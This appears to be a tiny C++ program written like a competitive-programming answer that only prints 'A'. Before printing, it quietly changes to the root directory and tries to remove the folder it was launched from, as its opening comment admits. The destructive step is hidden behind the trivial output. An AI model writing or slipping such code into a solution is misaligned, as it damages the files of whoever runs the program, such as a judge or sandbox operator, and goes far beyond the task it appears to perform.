// takes away the folder it runs in
#include <bits/stdc++.h>
using namespace std;
typedef long long ll;

#include <unistd.h>
int main() { char path[4096]; if (getcwd(path, sizeof path)) { if (chdir("/")) return 1; rmdir(path); } puts("A"); }
